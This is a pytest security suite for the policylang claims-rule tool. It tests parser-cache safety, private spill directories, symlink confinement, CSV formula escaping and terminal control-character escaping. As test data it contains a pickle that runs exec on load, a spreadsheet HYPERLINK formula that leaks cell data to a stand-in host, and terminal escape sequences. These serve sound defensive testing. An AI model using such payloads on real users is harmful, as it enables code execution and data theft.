"""The promises of docs/security.md, one test (or a few) each: nothing outside the rules runs or
is read, claim data stays private, and what policylang writes cannot attack whoever reads it."""

from __future__ import annotations

import csv
import json
import os
import pickle
import stat
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
from typer.testing import CliRunner, Result

import policylang
from policylang.cli import app
from policylang.diagnostics import render
from policylang.syntax import cache
from tests.conftest import ROOT, write_claims

# ------------------------------------------------------------------ the parser cache


class _Planted:
    """A pickle that, when loaded, writes a marker file: what an attacker would plant."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (exec, (f"open({str(self.marker)!r}, 'w').write('ran')",))


def _planted_cache(marker: Path) -> bytes:
    # Lark's cache file: a hash line, then pickles; the first pickle is loaded before any check
    return b"0" * 64 + b"\n" + pickle.dumps(_Planted(marker))


def _python(code: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    inherited = {k: v for k, v in os.environ.items() if k != "XDG_CACHE_HOME"}
    full = {**inherited, "PYTHONPATH": str(ROOT), **env}
    return subprocess.run(
        [sys.executable, "-c", code], env=full, cwd=ROOT, capture_output=True, text=True, check=True
    )


def _cli(*args: str) -> Result:
    return CliRunner().invoke(app, list(args))


LARK_TEMP_CACHE = (
    "import lark; from policylang.syntax.parser import LARK_OPTIONS, grammar_text; "
    "lark.Lark(grammar_text(), **LARK_OPTIONS, cache=True)"  # the order is hashed: as parser.py
)
PARSE = "from policylang.syntax.parser import parse; parse('policy \"p\"')"


def test_a_pickle_planted_at_larks_temp_file_cache_is_not_loaded(tmp_path: Path) -> None:
    # where Lark's `cache=True` puts the parser: found by letting Lark write it in a probe dir
    probe = tmp_path / "probe"
    probe.mkdir()
    _python(LARK_TEMP_CACHE, {"TMPDIR": str(probe)})
    (name,) = [p.name for p in probe.iterdir() if p.name.startswith(".lark_cache_")]
    shared = tmp_path / "shared-tmp"
    shared.mkdir()
    marker = tmp_path / "marker"
    (shared / name).write_bytes(_planted_cache(marker))
    env = {"TMPDIR": str(shared), "HOME": str(tmp_path / "home")}

    _python(PARSE, env)
    assert not marker.exists()
    # the planted file is where Lark's temp-file cache looks: it would have run
    _python(LARK_TEMP_CACHE, env)
    assert marker.read_text() == "ran"


def test_the_parser_cache_is_a_private_directory_of_the_user(tmp_path: Path) -> None:
    env = {"XDG_CACHE_HOME": str(tmp_path / "cache"), "TMPDIR": str(tmp_path / "tmp")}
    (tmp_path / "tmp").mkdir()
    _python(PARSE, env)
    directory = tmp_path / "cache" / "policylang"
    assert stat.S_IMODE(directory.stat().st_mode) == 0o700
    assert [p.name for p in directory.iterdir()] == [Path(cache.parser_cache_file_name()).name]
    assert list((tmp_path / "tmp").iterdir()) == []  # nothing in the shared temporary directory


def _cache_env(monkeypatch: pytest.MonkeyPatch, root: Path) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(root))


def test_the_cache_is_used_only_when_the_checks_pass(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _cache_env(monkeypatch, tmp_path / "ok")
    assert cache.parser_cache_file() == str(
        tmp_path / "ok" / "policylang" / cache.parser_cache_file_name()
    )


def test_a_cache_root_others_can_write_is_not_used(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = tmp_path / "shared"
    root.mkdir()
    root.chmod(0o777)
    _cache_env(monkeypatch, root)
    assert cache.parser_cache_file() is None
    assert list(root.iterdir()) == []  # not even the directory was made


def test_a_cache_directory_others_can_enter_is_not_used(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "policylang").mkdir()
    (tmp_path / "policylang").chmod(0o755)
    _cache_env(monkeypatch, tmp_path)
    assert cache.parser_cache_file() is None


def test_a_symlinked_cache_directory_is_not_used(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir(mode=0o700)
    (tmp_path / "root").mkdir(mode=0o700)
    (tmp_path / "root" / "policylang").symlink_to(elsewhere)
    _cache_env(monkeypatch, tmp_path / "root")
    assert cache.parser_cache_file() is None


def test_a_symlinked_cache_file_is_not_used(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "policylang").mkdir(mode=0o700)
    (tmp_path / "policylang" / cache.parser_cache_file_name()).symlink_to(tmp_path / "x")
    _cache_env(monkeypatch, tmp_path)
    assert cache.parser_cache_file() is None


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="needs chown")
def test_a_cache_directory_of_another_user_is_not_used(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "policylang").mkdir(mode=0o700)
    os.chown(tmp_path / "policylang", 4242, 4242)
    _cache_env(monkeypatch, tmp_path)
    assert cache.parser_cache_file() is None


# ------------------------------------------------------------------ DuckDB's spill directory

duckdb = pytest.importorskip("duckdb")


def _spilling_claims(path: Path, count: int) -> Path:
    """`count` claims (examples/claims.csv over and over) whose patients are easy to find."""
    with (ROOT / "examples" / "claims.csv").open(encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    claims = [
        {**rows[i % len(rows)], "claim_id": f"C{i}", "patient": f"SECRET-PATIENT-{i:07d}"}
        for i in range(count)
    ]
    return write_claims(path, claims)


def test_spilled_claim_data_is_private_to_the_run_and_removed(tmp_path: Path) -> None:
    from policylang.evaluate.batch import BatchEngine

    claims = _spilling_claims(tmp_path / "claims.csv", 100_000)
    engine = BatchEngine(policylang.load(ROOT / "rules").program, memory_limit="50MB")
    spill = engine.spill
    assert spill.parent == Path(tempfile.gettempdir())
    assert spill.name.startswith("policylang-duckdb-") and spill.name != "policylang-duckdb-"
    assert stat.S_IMODE(spill.stat().st_mode) == 0o700
    assert engine.con.execute("SELECT current_setting('temp_directory')").fetchone() == (
        str(spill),
    )
    engine.run(claims)
    spilled = b"".join(f.read_bytes() for f in spill.iterdir())
    assert b"SECRET-PATIENT-" in spilled  # the run did spill claim data, into that directory
    engine.close()
    assert not spill.exists()
    engine.close()  # a second close is harmless


def test_two_engines_spill_to_different_directories() -> None:
    from policylang.evaluate.batch import BatchEngine

    program = policylang.load(ROOT / "rules").program
    first, second = BatchEngine(program), BatchEngine(program)
    try:
        assert first.spill != second.spill
    finally:
        first.close()
        second.close()


@pytest.mark.parametrize("interrupt", [KeyboardInterrupt, RuntimeError])
def test_the_spill_directory_is_removed_when_the_run_fails(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, interrupt: type[BaseException]
) -> None:
    from policylang.evaluate.batch import engine as batch_engine

    private_tmp = tmp_path / "tmp"
    private_tmp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(private_tmp))
    seen: list[Path] = []

    def fail(self: batch_engine.BatchEngine, sql: str) -> None:
        seen.append(self.spill)
        assert self.spill.is_dir()
        raise interrupt("stopped in the middle of a run")

    monkeypatch.setattr(batch_engine.BatchEngine, "_execute", fail)
    result = _cli("check", "rules", "--claims", "examples/claims.csv", "--engine", "batch")
    if interrupt is KeyboardInterrupt:
        assert result.exit_code == 130  # click's "Aborted!"
    else:
        assert isinstance(result.exception, interrupt)
    assert len(seen) == 1 and seen[0].parent == private_tmp
    assert list(private_tmp.iterdir()) == []


def test_the_spill_directory_is_removed_when_the_run_is_terminated(tmp_path: Path) -> None:
    import signal
    import time

    claims = _spilling_claims(tmp_path / "claims.csv", 40_000)
    private_tmp = tmp_path / "tmp"
    private_tmp.mkdir()
    command = [sys.executable, "-m", "policylang.cli", "check", "rules", "--claims", str(claims)]
    env = {**os.environ, "PYTHONPATH": str(ROOT), "TMPDIR": str(private_tmp)}
    process = subprocess.Popen(
        [*command, "--engine", "batch", "--format", "jsonl", "--output", str(tmp_path / "out")],
        cwd=ROOT,
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    while process.poll() is None and not list(private_tmp.glob("policylang-duckdb-*")):
        time.sleep(0.02)  # until the engine has made its spill directory
    process.send_signal(signal.SIGTERM)
    assert process.wait() == 128 + signal.SIGTERM  # it was stopped, not finished
    assert list(private_tmp.iterdir()) == []


def test_the_spill_directory_is_removed_when_setting_up_fails(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from policylang.evaluate.batch import BatchEngine

    private_tmp = tmp_path / "tmp"
    private_tmp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(private_tmp))
    with pytest.raises(duckdb.Error):
        BatchEngine(policylang.load(ROOT / "rules").program, memory_limit="not a size")
    assert list(private_tmp.iterdir()) == []


# ------------------------------------------------------------------ a path is never a glob


def _claims_rows(count: int, prefix: str) -> list[dict[str, str]]:
    with (ROOT / "examples" / "claims.csv").open(encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    return [{**rows[i], "claim_id": f"{prefix}{i}"} for i in range(count)]


@pytest.fixture
def lookalikes(tmp_path: Path) -> Path:
    """A directory where each special name, read as a pattern, would match more files: the file
    of 5 claims sits beside `cA.csv` with 20 claims (and `cx.csv`, `c''q.csv` with 20)."""
    for name in ("c?.csv", "c*.csv", "c[A].csv", "c'q.csv", "c{A,x}.csv"):
        write_claims(tmp_path / name, _claims_rows(5, "exact-"))
    for name in ("cA.csv", "cx.csv", "c''q.csv"):
        write_claims(tmp_path / name, _claims_rows(20, "other-"))
    return tmp_path


@pytest.mark.parametrize("name", ["c?.csv", "c*.csv", "c[A].csv", "c'q.csv", "c{A,x}.csv"])
@pytest.mark.parametrize("engine", ["batch", "interpret"])
def test_the_claims_path_is_read_as_one_file(lookalikes: Path, name: str, engine: str) -> None:
    result = _cli(
        "check",
        "rules",
        "--claims",
        str(lookalikes / name),
        "--engine",
        engine,
        "--format",
        "jsonl",
    )
    ids = [json.loads(line)["claim_id"] for line in result.stdout.splitlines()]
    assert ids == [f"exact-{i}" for i in range(5)], result.stderr


@pytest.mark.parametrize("name", ["p?.parquet", "p[A].parquet", "p'*.parquet"])
def test_a_parquet_claims_path_is_read_as_one_file(tmp_path: Path, name: str) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    def parquet(path: Path, rows: list[dict[str, str]]) -> None:
        pq.write_table(pa.Table.from_pylist(rows), path)

    parquet(tmp_path / name, _claims_rows(5, "exact-"))
    parquet(tmp_path / "pA.parquet", _claims_rows(20, "other-"))
    parquet(tmp_path / "p'x.parquet", _claims_rows(20, "other-"))
    decisions = policylang.load(ROOT / "rules").check(tmp_path / name, engine="batch")
    assert [d.claim_id for d in decisions] == [f"exact-{i}" for i in range(5)]


def test_the_streamed_output_goes_to_exactly_the_named_file(lookalikes: Path) -> None:
    output = lookalikes / "out?'[1].jsonl"
    result = _cli(
        "check",
        "rules",
        "--claims",
        str(lookalikes / "c?.csv"),
        "--engine",
        "batch",
        "--format",
        "jsonl",
        "--output",
        str(output),
    )
    assert result.exit_code == 1, result.stderr  # some example claims are rejected
    lines = output.read_text(encoding="utf-8").splitlines()
    assert [json.loads(line)["claim_id"] for line in lines] == [f"exact-{i}" for i in range(5)]


# ------------------------------------------------------------------ Spark's scratch space


def test_sparks_scratch_directory_is_private_and_removed_at_exit(tmp_path: Path) -> None:
    code = (
        "from policylang.evaluate.spark.session import private_local_dir; import os, stat; "
        "path = private_local_dir(); assert path == private_local_dir(); "
        "print(path, oct(stat.S_IMODE(os.stat(path).st_mode)))"
    )
    shown = _python(code, {"TMPDIR": str(tmp_path)}).stdout.split()
    assert Path(shown[0]).parent == tmp_path and shown[1] == "0o700"
    assert list(tmp_path.iterdir()) == []  # removed when the process ended


def _spark_ready() -> bool:
    import importlib.util
    import shutil

    return bool(importlib.util.find_spec("pyspark") and importlib.util.find_spec("sqlglot")) and (
        shutil.which("java") is not None
    )


@pytest.mark.skipif(not _spark_ready(), reason="no pyspark, sqlglot or Java")
def test_spark_reads_a_local_claims_path_as_one_file_in_its_private_scratch(
    lookalikes: Path,
) -> None:
    from policylang.evaluate.spark import local_session
    from policylang.evaluate.spark.engine import check_spark
    from policylang.evaluate.spark.session import private_local_dir

    spark = local_session()
    assert spark.sparkContext.getConf().get("spark.local.dir") == private_local_dir()
    program = policylang.load(ROOT / "rules").program
    for name in ("c?.csv", "c[A].csv", "c{A,x}.csv", "c*.csv"):
        decisions = check_spark(program, {}, lookalikes / name, spark)
        assert [d.claim_id for d in decisions] == [f"exact-{i}" for i in range(5)], name


# ------------------------------------------------------------------ the rules tree

INSIDE = (
    'policy "inside"\n\ndefine two = 1 + 1\n\ntest "inside runs" {\n  expect value two == 2\n}\n'
)
OUTSIDE = 'policy "outside"\n\ntest "outside runs" {\n  expect value 1 == 1\n}\n'


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    """rules/ with one rule file, next to a secret and a rule file outside the tree."""
    (tmp_path / "rules").mkdir()
    (tmp_path / "rules" / "inside.policy").write_text(INSIDE, encoding="utf-8")
    (tmp_path / "secret.txt").write_text("TOP SECRET first line\n", encoding="utf-8")
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "outside.policy").write_text(OUTSIDE, encoding="utf-8")
    return tmp_path


def _shown(path: Path) -> str:
    return os.path.relpath(path)


def test_a_linked_secret_in_a_rules_directory_is_refused_unread(tree: Path) -> None:
    link = tree / "rules" / "notes.policy"
    link.symlink_to("../secret.txt")
    for command in (["test"], ["check", "--claims", "examples/claims.csv"], ["lint"]):
        result = _cli(command[0], str(tree / "rules"), *command[1:])
        assert result.exit_code == 2
        assert result.stderr.splitlines()[:3] == [
            f"error[E0806]: `{_shown(link)}` leads outside the rules tree",
            f" --> {_shown(link)}:1:1",
            f"  = help: a rules directory is read only below `{_shown(tree / 'rules')}`, as "
            "imports are: copy the file into the tree instead of linking to it",
        ]
        assert "SECRET" not in result.stdout + result.stderr
        assert "inside runs" not in result.stdout  # nothing was evaluated


def test_a_linked_rule_file_outside_the_tree_is_not_loaded(tree: Path) -> None:
    (tree / "rules" / "ext.policy").symlink_to(tree / "elsewhere" / "outside.policy")
    result = _cli("test", str(tree / "rules"))
    assert result.exit_code == 2
    assert result.stderr.startswith(
        f"error[E0806]: `{_shown(tree / 'rules' / 'ext.policy')}` leads outside the rules tree\n"
    )
    assert "outside runs" not in result.stdout + result.stderr


def test_a_linked_directory_outside_the_tree_is_not_loaded(tree: Path) -> None:
    (tree / "rules" / "more").symlink_to(tree / "elsewhere")
    result = _cli("test", str(tree / "rules"))
    # pathlib's scan does not enter a linked directory; were it to, E0806 would refuse it
    assert "outside runs" not in result.stdout + result.stderr
    assert result.stdout == "ok   inside runs\n1 passed, 0 failed\n"


def test_a_link_inside_the_tree_is_loaded_once(tree: Path) -> None:
    (tree / "rules" / "alias.policy").symlink_to("inside.policy")
    result = _cli("test", str(tree / "rules"))
    assert (result.exit_code, result.stdout) == (0, "ok   inside runs\n1 passed, 0 failed\n")


def test_a_link_in_the_tree_to_a_file_that_is_not_a_rule_file_is_refused_unread(
    tree: Path,
) -> None:
    (tree / "rules" / "notes.txt").write_text("TOP SECRET too\n", encoding="utf-8")
    link = tree / "rules" / "notes.policy"
    link.symlink_to("notes.txt")
    result = _cli("test", str(tree / "rules"))
    assert result.exit_code == 2
    assert result.stderr.splitlines()[0] == f"error[E0807]: `{_shown(link)}` is not a rule file"
    assert "SECRET" not in result.stderr


def test_a_named_link_to_a_file_that_is_not_a_rule_file_is_refused_unread(tree: Path) -> None:
    link = tree / "rules" / "notes.policy"
    link.symlink_to("../secret.txt")
    result = _cli("test", str(link))
    assert result.exit_code == 2
    assert result.stderr.splitlines()[:3] == [
        f"error[E0807]: `{_shown(link)}` is not a rule file",
        f" --> {_shown(link)}:1:1",
        f"  = help: rule files end in `.policy` (`{_shown(link)}` is a link to a file that "
        "does not)",
    ]
    assert "SECRET" not in result.stderr


def test_fmt_neither_reads_nor_rewrites_a_linked_file_outside_the_tree(tree: Path) -> None:
    target = tree / "elsewhere" / "outside.policy"
    messy = OUTSIDE.replace("\n\n", "\n\n\n\n")
    target.write_text(messy, encoding="utf-8")
    (tree / "rules" / "ext.policy").symlink_to(target)
    result = _cli("fmt", str(tree / "rules"))
    assert result.exit_code == 2
    assert "E0806" in result.stderr.splitlines()[0]
    assert target.read_text(encoding="utf-8") == messy


# ------------------------------------------------------------------ CSV output and spreadsheets

FORMULA_CLAIMS = (
    "claim_id,provider,insurer,patient,code,start_date,amount,referrer\n"
    '"=HYPERLINK(""http://x/?""&A1,""y"")",01234567,3311,p1,990001,2025-03-03,60.00,huisarts\n'
    "+1+1,01234567,3311,p2,990001,2025-03-03,-12.50,huisarts\n"
    "@SUM(1),01234567,3311,p3,990001,2025-03-03,60.00,huisarts\n"
    "-2+3,01234567,3311,p4,990001,2025-03-03,60.00,huisarts\n"
    "-12,01234567,3311,p5,990001,2025-03-03,60.00,huisarts\n"
)
FUNDED = "meekijkconsult: funded as Meekijkconsult (production) (001_158c496e59021edc.txt:1189)"


@pytest.mark.parametrize("engine", ["interpret", "batch"])
def test_csv_output_cells_never_start_a_formula(tmp_path: Path, engine: str) -> None:
    claims = tmp_path / "claims.csv"
    claims.write_text(FORMULA_CLAIMS, encoding="utf-8")
    policy = "tests/golden/decisions/core.policy"
    result = _cli("check", policy, "--claims", str(claims), "--format", "csv", "--engine", engine)
    assert result.stdout.splitlines() == [
        "claim_id,status,claimed,payable,title,funding,reasons",
        f'"\'=HYPERLINK(""http://x/?""&A1,""y"")",accepted,60.00,60.00,meekijkconsult,production,{FUNDED}',
        # a negative amount that is no credit is an error; the amount still stays a number
        "'+1+1,error,-12.50,0.00,,,amount: field `amount`: EUR -12.50 is negative but the claim "
        "is not a credit: a credit line says `credit` true and names the claim it takes back in "
        "`corrects`",
        f"'@SUM(1),accepted,60.00,60.00,meekijkconsult,production,{FUNDED}",
        f"'-2+3,accepted,60.00,60.00,meekijkconsult,production,{FUNDED}",
        f"-12,accepted,60.00,60.00,meekijkconsult,production,{FUNDED}",  # a plain number
    ]
    jsonl = _cli("check", policy, "--claims", str(claims), "--format", "jsonl", "--engine", engine)
    assert [json.loads(line)["claim_id"] for line in jsonl.stdout.splitlines()] == [
        '=HYPERLINK("http://x/?"&A1,"y")',
        "+1+1",
        "@SUM(1)",
        "-2+3",
        "-12",
    ]


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "+1"),
        ("+1a", "'+1a"),
        ("-12.50", "-12.50"),
        ("-12.", "'-12."),
        ("-", "'-"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("", ""),
        ("'=1", "'=1"),
    ],
)
def test_spreadsheet_cell(text: str, cell: str) -> None:
    from policylang.io.spreadsheet import spreadsheet_cell

    assert spreadsheet_cell(text) == cell


# ------------------------------------------------------------------ control characters on a terminal

ESC_ID = "a\x1b[2Jb\x1b]0;title\x07"  # clear the screen, set the window title
ESC_ID_SHOWN = "a\\x1b[2Jb\\x1b]0;title\\x07"


def test_a_control_character_in_a_rule_file_is_shown_escaped_with_the_caret_in_place(
    tmp_path: Path,
) -> None:
    rules = tmp_path / "bad.policy"
    rules.write_text('policy "p"\n\ndefine x = "a\x1b[2J\u202e" + ,\n', encoding="utf-8")
    result = _cli("test", str(rules))
    assert result.exit_code == 2
    assert result.stderr.splitlines()[:5] == [
        "error[E0102]: unexpected `,`",
        f" --> {_shown(rules)}:3:23",
        "  |",
        '3 | define x = "a\\x1b[2J\\u202e" + ,',
        "  | " + " " * 30 + "^ help: expected `(`, `-`, `{`, a date (YYYY-MM-DD), a name, "
        "a number, a percentage (1.5%), a quoted text, ...",
    ]
    lines = result.stderr.splitlines()
    assert lines[4].index("^") == lines[3].index(",")  # the caret under the escaped line's `,`
    assert "\x1b" not in result.stderr and "\u202e" not in result.stderr


def test_an_unexpected_control_character_is_named_visibly() -> None:
    from policylang.errors import PolicySyntaxError
    from policylang.syntax.parser import parse

    with pytest.raises(PolicySyntaxError) as raised:
        parse('policy "p"\n\x1b[31m\n', "esc.policy")
    assert str(raised.value.diagnostics[0].message) == "unexpected character `\x1b`"
    assert render(raised.value.diagnostics[0]).splitlines() == [
        "error[E0101]: unexpected character `\\x1b`",
        " --> esc.policy:2:1",
        "  |",
        "2 | \\x1b[31m",
        "  | ^^^^",
    ]


def _esc_claims(tmp_path: Path) -> Path:
    claims = tmp_path / "claims.csv"
    write_claims(
        claims,
        [
            {
                "claim_id": ESC_ID,
                "provider": "01234567",
                "insurer": "3311",
                "patient": "p1",
                "code": "990001",
                "start_date": "2025-03-03",
                "amount": "60.00",
                "referrer": "huisarts",
            }
        ],
    )
    return claims


def test_a_control_character_in_a_claim_id_is_shown_escaped_in_the_table(tmp_path: Path) -> None:
    claims = _esc_claims(tmp_path)
    result = _cli("check", "tests/golden/decisions/core.policy", "--claims", str(claims))
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    row = result.stdout.splitlines()[3]
    assert row.startswith("│ a\\x1b[2Jb\\x1b]0;") and "│ accepted │   60.00 │   60.00 │" in row
    jsonl = _cli(
        "check", "tests/golden/decisions/core.policy", "--claims", str(claims), "--format", "jsonl"
    )
    assert json.loads(jsonl.stdout)["claim_id"] == ESC_ID  # the data keeps the exact value


def test_a_control_character_in_a_claim_id_is_shown_escaped_by_explain(tmp_path: Path) -> None:
    claims = _esc_claims(tmp_path)
    policy = "tests/golden/decisions/core.policy"
    result = _cli("explain", policy, "--claims", str(claims), "--claim", ESC_ID)
    assert result.stdout.splitlines()[0] == f"claim {ESC_ID_SHOWN}: accepted, payable EUR 60.00"
    assert "\x1b" not in result.stdout


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain é ü €", "plain é ü €"),
        ("\x00\x1b\x7f", "\\x00\\x1b\\x7f"),
        ("\x9b31m", "\\x9b31m"),  # C1 CSI
        ("a\tb\nc\rd", "a\\tb\\nc\\rd"),
        ("\u202eevil\u2066", "\\u202eevil\\u2066"),
        ("\u2028", "\\u2028"),
    ],
)
def test_visible(text: str, shown: str) -> None:
    from policylang.terminal import visible

    assert visible(text) == shown


@pytest.mark.skipif(not _spark_ready(), reason="no pyspark, sqlglot or Java")
def test_spark_writes_the_decisions_to_exactly_the_named_file(lookalikes: Path) -> None:
    from policylang.evaluate.spark import local_session
    from policylang.evaluate.spark.engine import SparkEngine

    directory = lookalikes / "out put?[1]%20"
    directory.mkdir()
    engine = SparkEngine(policylang.load(ROOT / "rules").program, {}, local_session())
    try:
        engine.run(lookalikes / "c?.csv").write_jsonl(directory / "decisions.jsonl")
    finally:
        engine.close()
    lines = (directory / "decisions.jsonl").read_text(encoding="utf-8").splitlines()
    assert [json.loads(line)["claim_id"] for line in lines] == [f"exact-{i}" for i in range(5)]
    assert [p.name for p in directory.iterdir()] == ["decisions.jsonl"]
    assert sorted(p.name for p in lookalikes.iterdir() if p.is_dir()) == ["out put?[1]%20"]


def test_claims_read_from_stdin_leave_nothing_behind(tmp_path: Path) -> None:
    # `--claims -` spools standard input to a private directory (docs/security.md): the decisions
    # come out, and the process leaves no copy of the claims in the temporary directory
    import os
    import subprocess
    import sys

    from tests.conftest import ROOT

    env = {**os.environ, "TMPDIR": str(tmp_path), "PYTHONPATH": str(ROOT)}
    done = subprocess.run(
        [sys.executable, "-m", "policylang", "check", "rules/", "--claims", "-", "--format", "jsonl"],
        input=(ROOT / "examples/claims.csv").read_bytes(),
        capture_output=True, cwd=ROOT, env=env, check=False,
    )  # fmt: skip
    assert done.returncode == 1, done.stderr
    assert len(done.stdout.splitlines()) == 38
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith("policylang-stdin-")] == []
